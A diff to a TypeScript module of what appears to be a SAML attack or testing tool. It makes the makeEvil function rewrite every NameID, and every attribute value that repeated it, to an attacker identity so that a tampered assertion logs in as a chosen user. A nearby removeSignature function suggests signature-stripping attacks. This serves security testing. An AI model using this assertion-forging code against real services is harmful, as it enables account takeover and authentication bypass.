@@ -10,12 +10,27 @@ import { descendants, firstChild, newId } from '../xml.ts';
 /** Who an attack tries to sign in as when the caller names nobody. */
 export const DEFAULT_ATTACKER_NAME_ID = 'attacker@evil.example';
 
-/** Replaces the text of every NameID under `root` with the attacker's chosen identity. */
+function setText(el: Element, value: string): void {
+  while (el.firstChild) el.removeChild(el.firstChild);
+  el.appendChild(el.ownerDocument!.createTextNode(value));
+}
+
+/** Replaces the text of every NameID under `root` (nothing else); returns the texts it replaced. */
+export function replaceNameIds(root: Element, attackerNameId: string): Set<string> {
+  const nameIds = descendants(root, NS.assertion, 'NameID');
+  const original = new Set(nameIds.map((n) => n.textContent ?? ''));
+  for (const nameId of nameIds) setText(nameId, attackerNameId);
+  return original;
+}
+
+/**
+ * Replaces the text of every NameID under `root` with the attacker's chosen identity, and every AttributeValue
+ * that repeated a NameID (the e-mail, usually): an SP that takes its login from an attribute then meets the
+ * attacker's identity too, so "accepted as <victim>" shows whichever field the SP reads.
+ */
 export function makeEvil(root: Element, attackerNameId: string): void {
-  for (const nameId of descendants(root, NS.assertion, 'NameID')) {
-    while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
-    nameId.appendChild(nameId.ownerDocument!.createTextNode(attackerNameId));
-  }
+  const original = replaceNameIds(root, attackerNameId);
+  for (const value of descendants(root, NS.assertion, 'AttributeValue')) if (original.has(value.textContent ?? '')) setText(value, attackerNameId);
 }
 
 export function removeSignature(el: Element): void {
